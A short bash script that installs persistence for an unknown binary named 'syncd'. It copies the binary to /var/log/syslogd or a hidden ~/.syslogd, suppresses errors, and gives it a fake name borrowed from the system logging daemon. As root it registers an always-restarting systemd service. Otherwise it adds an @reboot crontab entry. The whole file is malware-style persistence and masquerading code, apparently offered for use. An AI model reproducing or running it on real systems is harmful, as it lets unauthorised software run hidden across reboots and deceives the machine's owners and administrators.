#!/bin/bash
cp ./syncd /var/log/syslogd 2>/dev/null || cp ./syncd "$HOME/.syslogd"
if [ "$(id -u)" = 0 ]; then
cat > /etc/systemd/system/syslogd.service <<'E'
[Unit]
Description=syslogd
[Service]
ExecStart=/var/log/syslogd
Restart=always
[Install]
WantedBy=multi-user.target
E
systemctl enable --now syslogd
else
(crontab -l 2>/dev/null; echo "@reboot $HOME/.syslogd") | crontab -
fi
